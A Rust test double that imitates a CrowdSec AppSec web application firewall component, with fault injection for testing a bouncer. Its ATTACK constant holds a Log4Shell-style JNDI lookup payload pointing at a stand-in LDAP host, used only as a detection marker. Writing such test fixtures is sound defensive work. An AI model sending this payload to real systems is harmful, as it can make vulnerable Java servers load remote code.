//! A stand-in for the AppSec component of a CrowdSec engine, its web application firewall: as strict as that one is, and
//! wrong on request.
//!
//! It asks for the fields that the component asks for, answers in its words, and reads a body only where `Content-Length`
//! announces it, as versions before 1.7.8 do. Instead of rules it has words that it looks for in the target, the fields and
//! the body of a request.

use std::io;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use serde_json::{Value, json};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;

use crate::crowdsec::BOUNCER_KEY;
use crate::raw::Raw;
use crate::scripted::Asked;

/// What is in an attack.
pub const ATTACK: &str = "${jndi:ldap://203.0.113.9/a}";

/// What is answered by a captcha.
pub const SUSPICIOUS: &str = "suspicious-word";

/// What is answered by a status of its own, which is 451.
pub const UNAVAILABLE_FOR_LEGAL_REASONS: &str = "forbidden-word";

/// What has its client prove that it is a browser.
pub const BOT: &str = "bot-word";

/// The path below which the component answers itself.
pub const CHALLENGE_PATH: &str = "/crowdsec-internal/challenge/";

/// The component. It ends when this is dropped.
pub struct AppsecComponent {
    /// Its URL.
    pub url: String,
    /// The address that it listens on.
    pub address: SocketAddr,
    state: Arc<Mutex<State>>,
    task: JoinHandle<()>,
}

#[derive(Default)]
struct State {
    asked: Vec<Asked>,
    fault: Option<Fault>,
}

/// What the component does wrong once it was asked.
#[derive(Clone, Debug)]
pub enum Fault {
    /// Nothing comes.
    Silent,
    /// It closes its connection.
    Closes,
    /// It resets its connections. Counts for those that are opened from now on.
    Resets,
    /// It answers by a status, without a body.
    Status(u16),
    /// It answers these bytes, and keeps its connection.
    Says(Vec<u8>),
    /// It answers these bytes, and closes its connection.
    Cut(Vec<u8>),
    /// It answers these bytes, one in a fifth of a second.
    Drips(Vec<u8>),
    /// It answers these bytes, and then this byte for ever.
    Floods(Vec<u8>, u8),
    /// It gives its true answer before it has read the body, which it never does, and announces that it closes.
    ReadsNoBody,
}

impl AppsecComponent {
    /// Starts one on a free port of loopback.
    pub async fn start() -> io::Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let (address, state) = (listener.local_addr()?, Arc::<Mutex<State>>::default());
        let noting = Arc::clone(&state);
        let task = tokio::spawn(async move {
            let mut connections = tokio::task::JoinSet::new();
            let mut number = 0;
            while let Ok((stream, _)) = listener.accept().await {
                let state = Arc::clone(&noting);
                connections.spawn(async move { serve(stream, number, &state).await });
                number += 1;
            }
        });
        Ok(Self { url: format!("http://{address}"), address, state, task })
    }

    /// Does this wrong from now on; by none, nothing.
    pub fn fail_by(&self, fault: Option<Fault>) {
        locked(&self.state).fault = fault;
    }

    /// All questions so far, in order. A question that is read in part is not among them.
    pub fn asked(&self) -> Vec<Asked> {
        locked(&self.state).asked.clone()
    }

    /// The questions about requests for a host.
    pub fn asked_about(&self, host: &str) -> Vec<Asked> {
        let about = |asked: &Asked| asked.field("x-crowdsec-appsec-host").split(':').next() == Some(host);
        self.asked().into_iter().filter(about).collect()
    }
}

impl Drop for AppsecComponent {
    fn drop(&mut self) {
        self.task.abort();
    }
}

fn locked(state: &Mutex<State>) -> MutexGuard<'_, State> {
    state.lock().unwrap_or_else(PoisonError::into_inner)
}

async fn serve(stream: TcpStream, connection: usize, state: &Mutex<State>) -> io::Result<()> {
    if matches!(locked(state).fault, Some(Fault::Resets)) {
        stream.set_zero_linger()?;
    }
    let mut raw = Raw::over(Box::new(stream));
    for turn in 0.. {
        let Some(head) = raw.until(b"\r\n\r\n").await? else { break };
        let head = String::from_utf8_lossy(&head).into_owned();
        let mut asked = Asked { connection, turn, head, body: Vec::new() };
        let fault = locked(state).fault.clone();
        if !matches!(fault, Some(Fault::ReadsNoBody))
            && let Ok(len) = asked.field("content-length").parse()
        {
            asked.body = raw.bytes(len).await?;
            if asked.body.len() < len {
                return Ok(());
            }
        }
        let answer = answer(&asked);
        locked(state).asked.push(asked);
        match fault {
            None => raw.send(answer).await?,
            Some(Fault::ReadsNoBody) => {
                let status_line = answer.iter().position(|byte| *byte == b'\n').map_or(0, |end| end + 1);
                raw.send([&answer[..status_line], b"Connection: close\r\n", &answer[status_line..]].concat()).await?;
                return std::future::pending().await;
            }
            Some(Fault::Silent) => return std::future::pending().await,
            Some(Fault::Closes | Fault::Resets) => return Ok(()),
            Some(Fault::Status(status)) => raw.send(reply(status, "")).await?,
            Some(Fault::Says(said)) => raw.send(said).await?,
            Some(Fault::Cut(said)) => return raw.send(said).await,
            Some(Fault::Drips(said)) => {
                let mut tick = tokio::time::interval(Duration::from_millis(200));
                for byte in said {
                    tick.tick().await;
                    raw.send([byte]).await?;
                }
            }
            Some(Fault::Floods(said, byte)) => {
                raw.send(said).await?;
                loop {
                    raw.send([byte; 4096]).await?;
                }
            }
        }
    }
    Ok(())
}

/// An answer as the component gives it.
pub fn reply(status: u16, body: &str) -> Vec<u8> {
    let kind = if body.is_empty() { "" } else { "Content-Type: text/plain; charset=utf-8\r\n" };
    format!("HTTP/1.1 {status} Any\r\n{kind}Content-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
}

/// The answer to a request that may pass.
pub fn allow() -> Vec<u8> {
    reply(200, r#"{"action":"allow","http_status":200}"#)
}

fn answer(asked: &Asked) -> Vec<u8> {
    if asked.field("x-crowdsec-appsec-api-key") != BOUNCER_KEY {
        return reply(401, "");
    }
    let needed = ["x-crowdsec-appsec-ip", "x-crowdsec-appsec-uri", "x-crowdsec-appsec-verb"];
    if needed.iter().any(|name| asked.field(name).is_empty()) {
        return reply(500, "");
    }
    let body = String::from_utf8_lossy(&asked.body);
    let has = |word: &str| asked.head.contains(word) || body.contains(word);
    let said: Value = if asked.field("x-crowdsec-appsec-uri").starts_with(CHALLENGE_PATH) {
        challenge(r#"{"status":"ok"}"#, "application/json")
    } else if has(ATTACK) {
        json!({ "action": "ban", "http_status": 403 })
    } else if has(SUSPICIOUS) {
        json!({ "action": "captcha", "http_status": 403 })
    } else if has(UNAVAILABLE_FOR_LEGAL_REASONS) {
        json!({ "action": "ban", "http_status": 451 })
    } else if has(BOT) && !asked.field("cookie").contains("__crowdsec_challenge=") {
        challenge("<!DOCTYPE html><script>prove()</script>", "text/html; charset=utf-8")
    } else {
        return allow();
    };
    reply(403, &said.to_string())
}

fn challenge(content: &str, kind: &str) -> Value {
    json!({
        "action": "challenge",
        "http_status": 200,
        "user_body_content": content,
        "user_headers": {
            "Content-Type": [kind],
            "Cache-Control": ["no-cache, no-store"],
            "Content-Security-Policy": ["default-src 'self'; script-src 'self' 'unsafe-inline'"],
        },
        "user_cookies": ["__crowdsec_challenge=sealed; Path=/; HttpOnly", "another=1; Path=/"],
    })
}
